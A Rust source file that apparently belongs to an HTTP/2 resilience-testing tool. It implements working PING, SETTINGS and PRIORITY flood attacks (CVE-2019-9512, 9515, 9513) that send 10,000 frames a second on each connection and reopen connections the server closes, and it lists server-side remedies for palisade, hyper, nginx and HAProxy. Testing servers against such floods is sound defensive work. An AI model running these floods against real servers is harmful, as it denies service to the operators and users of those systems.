//! Frames that carry no request on, each of which the server must answer.

use super::{
    frames::{PING, PRIORITY, frame, settings},
    session::Session,
};
use crate::{
    attacks::{
        attack::{Addresses, Attack, InQuick, Protocol, Takes, remedy},
        pause::reopen,
    },
    machine::{Actions, Event, Machine},
};
use bytes::Bytes;
use std::time::Duration;

/// The number of frames in a batch, and the time between batches: 10,000 frames a second on each
/// connection.
const BATCH_FRAMES: usize = 100;
const INTERVAL: Duration = Duration::from_millis(10);

pub(in crate::attacks) fn attacks() -> Vec<Attack> {
    let base = Attack {
        threat: "T15",
        withholds: "nothing: it takes an answer for each frame",
        stopped_by: "a limit on frames that carry no request on, after which the connection ends",
        protocol: Protocol::Http2,
        connections: 10,
        addresses: Addresses::Many(10),
        takes: Takes::Work,
        in_quick: InQuick::Skipped("rapid-reset takes more work"),
        remedies: const {
            &[
                remedy(
                    "palisade",
                    "palisade::serve, ConnGuard: its limit on HTTP/2 frames",
                ),
                remedy(
                    "hyper",
                    "none: bound the frames of a connection in its socket",
                ),
                remedy("nginx", "none needed: it closes the connection by itself"),
                remedy(
                    "HAProxy",
                    "3.0 or later, tune.h2.fe.glitches-threshold 1000",
                ),
            ]
        },
        ..Attack::BASE
    };
    vec![
        Attack {
            name: "ping-flood",
            title: "HTTP/2 PING frames without pause",
            cve: Some("CVE-2019-9512"),
            make: |plan, _| Box::new(Flood::new(&frame(PING, 0, 0, &[7; 8]), plan.ends)),
            ..base.clone()
        },
        Attack {
            name: "settings-flood",
            title: "empty HTTP/2 SETTINGS frames without pause",
            cve: Some("CVE-2019-9515"),
            make: |plan, _| Box::new(Flood::new(&settings(&[]), plan.ends)),
            ..base.clone()
        },
        Attack {
            name: "priority-flood",
            title: "HTTP/2 PRIORITY frames without pause",
            withholds: "nothing: it takes a read for each frame",
            cve: Some("CVE-2019-9513"),
            make: |plan, _| {
                // Stream 1 depends on stream 3, by a weight of 16.
                let priority = frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 15]);
                Box::new(Flood::new(&priority, plan.ends))
            },
            ..base
        },
    ]
}

/// Sends a batch of frames at each interval. Reads the answers.
struct Flood {
    batch: Bytes,
    ends: Duration,
    session: Session,
}

impl Flood {
    fn new(frame: &[u8], ends: Duration) -> Self {
        Self {
            batch: frame.repeat(BATCH_FRAMES).into(),
            ends,
            session: Session::default(),
        }
    }
}

impl Machine for Flood {
    fn on(&mut self, event: Event<'_>, now: Duration, out: &mut Actions) {
        match event {
            Event::Opened => self.session.open(&[], out),
            Event::Received(bytes) => return self.session.answer(bytes, out),
            Event::Closed => return reopen(now, out),
            Event::Woken => {}
        }
        if now < self.ends {
            out.send(self.batch.clone());
            out.wake_at(now + INTERVAL);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::machine::trace;

    #[test]
    fn a_batch_follows_each_interval() {
        let mut flood = Flood::new(&frame(PING, 0, 0, &[7; 8]), Duration::from_secs(1));
        let sent = trace(&mut flood, Duration::from_secs(10));
        assert_eq!(sent.len(), 101);
        assert_eq!(sent[1].1.len(), BATCH_FRAMES * 17);
        assert_eq!(sent[100], (Duration::from_secs(1), vec![]));
    }
}
